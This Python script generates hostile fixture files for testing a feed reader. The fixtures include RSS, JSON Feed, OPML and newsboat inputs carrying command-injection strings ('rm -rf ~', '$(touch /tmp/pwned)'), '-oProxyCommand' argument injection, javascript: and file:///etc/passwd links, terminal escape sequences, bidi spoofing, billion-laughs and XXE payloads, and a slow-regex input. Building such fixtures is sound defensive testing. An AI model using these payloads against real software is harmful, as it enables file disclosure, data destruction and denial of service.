"""Writes the fixture files beside it (kept in git; run again to regenerate):

.venv/bin/python tests/data/hostile/make_fixtures.py
"""

import json
from pathlib import Path

D = Path(__file__).parent

ESC = "\x1b"
PAYLOAD_TEXT = {
    "markup": "[bold]b[/] [/] [ unbalanced [link=https://evil.example]l[/link] [@click=app.quit]q[/] [@click=app.screenshot('pwned.svg','.')]s[/]",
    "emoji": ":warning: :smile:",
    "bidi": "\u202egnp.exe\u202c \u2066iso\u2069",
    "c1": "\u009b31m\u0085\u0090",
}
ESCAPES = (
    f"{ESC}[2J{ESC}[H clear {ESC}]0;pwned title\x07 {ESC}]8;;https://evil.example/{ESC}\\hyper{ESC}]8;;{ESC}\\ "
    f"{ESC}]52;c;cHduZWQ=\x07 {ESC}P+q{ESC}\\ {ESC}[31mred{ESC}[0m"
)

# 1. well-formed RSS (fast path): markup, emoji codes, C1, bidi (all legal XML characters)
mark = " ".join(PAYLOAD_TEXT.values())


def x(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


rss = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Feed {x(mark)} 频道</title><link>http://hostile.example/</link>
<item><title>Title {x(mark)} 标题</title><link>http://hostile.example/1</link><guid>inj-1</guid>
<author>Author {x(mark)}</author>
<description>{x("<p>Body " + x(mark) + " 正文 <a href='javascript:alert(1)'>js</a> <a href='https://ok.example/'>ok</a></p>")}</description></item>
<item><title>Enclosure ; rm -rf ~ `id` $(id) | &amp; 附件</title><link>http://hostile.example/2?a=1&amp;b=$(id)</link><guid>inj-2</guid>
<enclosure url="http://hostile.example/a%20b;rm%20-rf.mp3?$(touch%20/tmp/pwned)" type="audio/mpeg" length="1"/></item>
</channel></rss>
"""
(D / "injection.xml").write_text(rss, encoding="utf-8")

# 2. raw escape sequences: ill-formed XML, so feedparser reads it
esc = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Escapes {ESCAPES} 转义</title><link>http://escapes.example/</link>
<item><title>Title {ESCAPES} 标题</title><link>http://escapes.example/1</link><guid>esc-1</guid>
<author>Author {ESCAPES}</author>
<description>&lt;p&gt;Body {ESCAPES} 正文&lt;/p&gt;</description></item>
</channel></rss>
"""
(D / "escapes.xml").write_text(esc, encoding="utf-8")

# 3. JSON Feed: everything at once, escapes as JSON \u001b
every = mark + " " + ESCAPES
(D / "injection.json").write_text(
    json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "JSON " + every,
            "home_page_url": "http://json.example/",
            "items": [
                {
                    "id": "json-1",
                    "url": "http://json.example/1",
                    "title": "JSON title " + every,
                    "authors": [{"name": "JSON author " + every}],
                    "content_html": "<p>JSON body " + x(every) + "</p>",
                    "attachments": [
                        {"url": "http://json.example/a.mp3?$(id)", "mime_type": "audio/mpeg"}
                    ],
                }
            ],
        },
        ensure_ascii=True,
    ),
    encoding="ascii",
)

# 4. links that must never open or be followed
links = [
    ("javascript", "javascript:alert(document.cookie)"),
    ("file", "file:///etc/passwd"),
    ("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("dash", "-oProxyCommand=touch /tmp/pwned"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("shell", "http://links.example/x;touch /tmp/pwned;`id`$(id)|&gt;&lt;"),
]
items = "".join(
    f"<item><title>{n}</title><link>{u}</link><guid>{n}</guid>"
    f'<description>&lt;a href="{u}"&gt;{n}&lt;/a&gt;</description></item>'
    for n, u in links
)
(D / "links.xml").write_text(
    f'<?xml version="1.0"?><rss version="2.0"><channel><title>Links</title>{items}</channel></rss>\n'
)

# 5. XML attacks
laughs = '<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n'
for i in range(1, 10):
    laughs += f' <!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">\n'
laughs = laughs.replace("&lol0;", "&lol;")
laughs += ']>\n<rss version="2.0"><channel><title>Laughs 笑</title><item><title>&lol9;</title><guid>l1</guid></item><item><title>plain 普通</title><guid>l2</guid></item></channel></rss>\n'
(D / "billion_laughs.xml").write_text(laughs, encoding="utf-8")
big = "A" * 50_000
quad = (
    f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{big}">]>\n<rss version="2.0"><channel><title>Quadratic</title>'
    f"<item><title>blow-up</title><guid>q1</guid><description>"
    + "&a;"
    * 2000
    + "</description></item>"
    "<item><title>plain 普通</title><guid>q2</guid></item></channel></rss>\n"
)
(D / "quadratic_blowup.xml").write_text(quad)
(D / "xxe_file.xml").write_text(
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://@SECRET@">]>\n'
    '<rss version="2.0"><channel><title>XXE</title><item><title>leak: &xxe;</title><guid>x1</guid><description>&xxe;</description></item></channel></rss>\n'
)
(D / "xxe_parameter.xml").write_text(
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:@PORT@/evil.dtd"> %remote;]>\n'
    '<rss version="2.0"><channel><title>XXE param</title><item><title>param &exfil;</title><guid>x2</guid></item></channel></rss>\n'
)
(D / "xxe_http.xml").write_text(
    '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://127.0.0.1:@PORT@/evil.dtd" [<!ENTITY xxe SYSTEM "http://127.0.0.1:@PORT@/secret">]>\n'
    '<rss version="2.0"><channel><title>XXE http</title><item><title>fetch &xxe;</title><guid>x3</guid></item></channel></rss>\n'
)
(D / "illformed.xml").write_text(
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Shaky 不稳</title>\n'
    "<item><title>Recovered one 恢复</title><guid>new-1</guid><description>first <b>bold</description></item>\n"
    "<item><title>Recovered two</title><guid>new-2</guid>\n<item><title>cut off",
    encoding="utf-8",
)
(D / "good.xml").write_text(
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Shaky 不稳</title>\n'
    "<item><title>Old one 旧</title><guid>old-1</guid></item><item><title>Old two</title><guid>old-2</guid></item></channel></rss>\n",
    encoding="utf-8",
)
(D / "login.html").write_text(
    '<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form action="/login" method="post">'
    '<input name="user"><input name="password" type="password"><button>Sign in</button></form></body></html>\n'
)

# 6. the feedparser author/email slow regex (~32 KB), ill-formed so that feedparser reads it
author = "a" * 32768
(D / "slow_author.xml").write_text(
    f'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Slow&nbsp;author</title>'
    f"<managingEditor>{author}</managingEditor>"
    + "".join(
        f"<item><title>item {i}</title><guid>s{i}</guid><author><![CDATA[{author}]]></author></item>"
        for i in range(1)
    )
    + "</channel></rss>\n"
)


# 7. encodings
def write_enc(name: str, decl: str, codec: str, title: str, header_bom: bytes = b"") -> None:
    doc = (
        f'<?xml version="1.0" encoding="{decl}"?>\n<rss version="2.0"><channel><title>{title} channel</title>'
        f"<item><title>{title}</title><guid>e1</guid><description>&lt;p&gt;{title} body&lt;/p&gt;</description></item></channel></rss>\n"
    )
    (D / name).write_bytes(header_bom + doc.encode(codec))


write_enc("gb2312_gbk_only.xml", "gb2312", "gbk", "朱镕基 王堃 喆 GBK only")
write_enc("gbk_gb18030.xml", "gbk", "gb18030", "𠮷野家 䶮 𡃁 four bytes")
write_enc("big5.xml", "big5", "big5hkscs", "佢哋講嘅廣東話 繁體")
write_enc("shift_jis.xml", "Shift_JIS", "cp932", "髙橋さん ①番目 ～")
write_enc(
    "bom_vs_declaration.xml",
    "iso-8859-1",
    "utf-8",
    "BOM wins Café 咖啡",
    header_bom=b"\xef\xbb\xbf",
)
write_enc("textxml_no_charset.xml", "gb18030", "gb18030", "text/xml 无字符集 声明为准")
(D / "nuls.xml").write_bytes(
    b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>NUL\x00 feed</title>'
    b"<item><title>nul\x00in\x00title \xe7\xa9\xba</title><guid>n1</guid><description>a\x00b</description></item></channel></rss>\n"
)
(D / "invalid_utf8.xml").write_bytes(
    b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Bad \xff\xfe bytes</title>'
    b"<item><title>broken \xe4\xb8 \xc3( \xed\xa0\x80 surrogate-bytes \xe4\xb8\xad</title><guid>u1</guid></item></channel></rss>\n"
)
(D / "lone_surrogates.json").write_text(
    '{"version": "https://jsonfeed.org/version/1.1", "title": "Lone \\ud800 surrogate",'
    ' "items": [{"id": "ls-1", "title": "half \\udc00 pair \\ud83d and whole \\ud83d\\ude00", "content_text": "x\\u0000y \\udfff"}]}\n'
)

# 8. dates and identity
dates = [
    ("missing", ""),
    ("invalid", "<pubDate>not a date at all</pubDate>"),
    ("year0", "<pubDate>Sat, 01 Jan 0000 00:00:00 GMT</pubDate>"),
    ("year0iso", "<dc:date>0000-01-01T00:00:00Z</dc:date>"),
    ("year9999", "<pubDate>Fri, 31 Dec 9999 23:59:59 GMT</pubDate>"),
    ("far_future", "<pubDate>Sat, 01 Jan 3000 00:00:00 GMT</pubDate>"),
    ("future", "<dc:date>2999-01-01T00:00:00Z</dc:date>"),
    ("huge", "<dc:date>99999999-01-01T00:00:00Z</dc:date>"),
    ("negative", "<dc:date>-2000-01-01T00:00:00Z</dc:date>"),
    ("normal", "<pubDate>Wed, 26 Nov 2025 10:00:00 GMT</pubDate>"),
]
items = "".join(f"<item><title>{n}</title><guid>d-{n}</guid>{d}</item>" for n, d in dates)
(D / "dates.xml").write_text(
    f'<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Dates</title>{items}</channel></rss>\n'
)
items = "".join(
    f"<item><title>story {i} 第{i}条</title><guid>same</guid><link>http://same.example/</link><description>text {i}</description></item>"
    for i in range(6)
)
items += "<item><title>story 0 第0条</title><guid>same</guid><link>http://same.example/</link><description>text 0</description></item>"
(D / "same_guid.xml").write_text(
    f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>One GUID</title>{items}</channel></rss>\n',
    encoding="utf-8",
)

# 9. subscription imports with non-http entries
(D / "subscriptions.opml").write_text("""<?xml version="1.0"?>
<opml version="2.0"><head><title>mixed</title></head><body>
<outline text="ok" type="rss" xmlUrl="https://ok.example/feed.xml"/>
<outline text="js" type="rss" xmlUrl="javascript:alert(1)"/>
<outline text="file" type="rss" xmlUrl="file:///etc/passwd"/>
<outline text="data" type="rss" xmlUrl="data:application/rss+xml,&lt;rss/&gt;"/>
<outline text="dash" type="rss" xmlUrl="-oProxyCommand=id"/>
<outline text="exec" type="rss" xmlUrl="exec:touch /tmp/pwned"/>
<outline text="ftp" type="rss" xmlUrl="ftp://ftp.example/feed.xml"/>
<outline text="shell" type="rss" xmlUrl="http://ok.example/$(touch /tmp/pwned);`id`"/>
</body></opml>
""")
(D / "newsboat_urls").write_text(
    'https://ok.example/a.xml news\n"exec:touch /tmp/pwned" evil\n"filter:/bin/sh:https://x.example/" evil\n'
    'file:///etc/passwd\njavascript:alert(1)\n"query:Unread:unread = \\"yes\\""\n-oProxyCommand=id\nhttps://ok.example/b.xml "~Title; rm -rf ~"\n'
)
